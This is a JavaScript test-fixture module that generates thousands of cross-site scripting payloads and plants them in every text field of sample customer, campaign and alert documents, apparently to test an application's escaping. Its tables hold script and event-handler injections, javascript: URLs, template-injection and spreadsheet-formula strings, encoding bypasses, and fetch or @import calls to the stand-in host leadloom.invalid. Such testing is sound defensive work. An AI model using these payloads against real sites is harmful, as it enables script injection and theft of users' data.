/**
 * Text that would act if a page took it for markup or code, and documents that have it in every field.
 * All of it is made here, by a table of what acts, where it may stand, and what it does.
 */
import { sampleFile } from './sample.mjs';

/** What a payload does when it runs; `n` tells which. */
const acts = [
  (n) => `hit(${n})`,
  (n) => `alert(${n})`,
  (n) => `top['hit'].call(0,${n})`,
  (n) => `fetch('//leadloom.invalid/'+${n})`,
];

/** Markup that would run it, by the way it does. */
const markup = [
  (c) => `<script>${c}</script>`,
  (c) => `<script src=data:,${c}></script>`,
  (c) => `<script type=module>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src='//leadloom.invalid/${c}'>`,
  (c) => `<image href=x onerror=${c}>`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><a href="javascript:${c}"><text>x</text></a></svg>`,
  (c) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${c}>#x">`,
  (c) => `<math><a href="javascript:${c}">x</a></math>`,
  (c) => `<body onload=${c}>`,
  (c) => `<body onpageshow=${c}>`,
  (c) => `<iframe src="javascript:${c}">`,
  (c) => `<iframe srcdoc="<script>${c}</script>">`,
  (c) => `<object data="javascript:${c}">`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<a href="javascript:${c}" autofocus onfocus=${c}>x</a>`,
  (c) => `<a href="java\tscript:${c}">x</a>`,
  (c) => `<a href="data:text/html,<script>${c}</script>">x</a>`,
  (c) => `<a href="vbscript:${c}">x</a>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<select autofocus onfocus=${c}>`,
  (c) => `<textarea autofocus onfocus=${c}>`,
  (c) => `<details open ontoggle=${c}>x</details>`,
  (c) => `<dialog open onclose=${c}>x</dialog>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<audio src=x onerror=${c}>`,
  (c) => `<marquee onstart=${c}>x</marquee>`,
  (c) => `<form action="javascript:${c}"><button>x</button></form>`,
  (c) => `<button formaction="javascript:${c}" form=x>x</button>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<link rel=stylesheet href="//leadloom.invalid/${c}">`,
  (c) => `<base href="//leadloom.invalid/">${c}`,
  (c) => `<style>@import '//leadloom.invalid/${c}';</style>`,
  (c) => `<x style="animation-name:x" onanimationstart=${c}>`,
  (c) => `<div onpointerenter=${c} popover id=side>x</div>`,
  (c) => `<template><script>${c}</script></template>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `javascript:${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `\${${c}}`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `');${c};//`,
  (c) => `";${c};//`,
];

/** Where it may stand, so that whoever quotes badly lets it out. */
const places = [
  (p) => p,
  (p) => `">${p}`,
  (p) => `'>${p}`,
  (p) => `\`>${p}`,
  (p) => `x ${p.replaceAll('<', '').replaceAll('>', '')}`,
  (p) => `-->${p}<!--`,
  (p) => `--!>${p}`,
  (p) => `]]>${p}`,
  (p) => `</title>${p}`,
  (p) => `</textarea>${p}`,
  (p) => `</style>${p}`,
  (p) => `</script>${p}`,
  (p) => `</option></select>${p}`,
  (p) => `</svg>${p}`,
  (p) => `</template>${p}`,
  (p) => `<<${p}>>`,
  (p) => p.toUpperCase(),
  (p) => p.replaceAll(' ', '/'),
  (p) => p.replaceAll(' ', '\n'),
  (p) => p.replaceAll(' ', '\t'),
  (p) => p.replaceAll('<', '<\u200b'),
  (p) => p.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (p) => p.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (p) => p.replaceAll('<', '&#60;').replaceAll('>', '&#x3e'),
  (p) => p.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (p) => encodeURIComponent(p),
  (p) => `=HYPERLINK("javascript:x","${p.replaceAll('"', '""')}")`,
  (p) => `\u202e${p}\u202c`,
];

/** How many there are. */
export const hostileCount = acts.length * markup.length * places.length;

/** The payload of a number: as many as the tables make, and then around. */
export function hostile(n) {
  const act = acts[n % acts.length];
  const form = markup[Math.floor(n / acts.length) % markup.length];
  // Neighbours stand in different places.
  const place = places[(n + Math.floor(n / acts.length / markup.length)) % places.length];
  return `${place(form(act(n)))} §${n}§`;
}

/** What stands in its place where nothing is to be feared. */
export const harmless = (n) => `Harmless §${n}§`;

/** Members by which documents hang together, and what is none of anybody's own words. */
const kept =
  /^(?:source|type|severity|submittedOn|time|scheduledOn|\w+On|continueFrom|specversion|datacontenttype|account|profile|priority|class|currency|leadloom|\$schema|timeZone|trades?|standardJobType|version|sha256|role|acceptedAt|defaultEstimateSoldAction|value)$/;

/** One third of the telephones and addresses stays, so that leads find their customers. */
const isReached = (key, text) =>
  /^(?:phone|email|phoneNumber)$/.test(key) && (text.length + text.charCodeAt(0)) % 3 === 0;

/**
 * The documents of the sample with other words in every field that has words: the same word everywhere
 * the same.
 * @param {(n: number) => string} word
 */
export function sampleWith(word) {
  const words = new Map();
  const other = (text) => {
    if (!words.has(text)) words.set(text, word(words.size));
    return words.get(text);
  };
  const changed = (value, key, setup) => {
    if (Array.isArray(value)) return value.map((one) => changed(one, key, setup));
    if (value !== null && typeof value === 'object') {
      const own = key === 'details' || key === 'metadata';
      return Object.fromEntries(
        Object.entries(value).map(([name, member]) => [
          own ? other(name) : name,
          // A trade of a business unit is known by its name.
          name === 'trade' ? member : changed(member, own ? 'own' : name, setup),
        ]),
      );
    }
    if (typeof value !== 'string' || kept.test(key) || isReached(key, value)) return value;
    if (setup && key !== 'name') return value;
    return key === 'id' ? `${value} ${other(value)}` : other(value);
  };
  const json = (name) => {
    const document = JSON.parse(sampleFile(name).toString('utf8'));
    return JSON.stringify(changed(document, '', name.endsWith('.setup.json')));
  };
  const lines = sampleFile('alerts.ndjson')
    .toString('utf8')
    .split('\n')
    .flatMap((line) => {
      try {
        return [JSON.stringify(changed(JSON.parse(line), '', false))];
      } catch {
        // Some lines of the sample are broken by intent.
        return [];
      }
    });
  const names = [
    'business-units.json',
    'job-types.json',
    'campaigns.json',
    'prairie-star.setup.json',
    'customers.json',
    'customer-contacts.json',
    'customer-locations.json',
  ];
  const files = names.map((name) => ({ name: `${word(0)} ${name}`, text: json(name) }));
  files.push({ name: `${word(1)} alerts.ndjson`, text: lines.join('\n') });
  return { files, words: words.size };
}
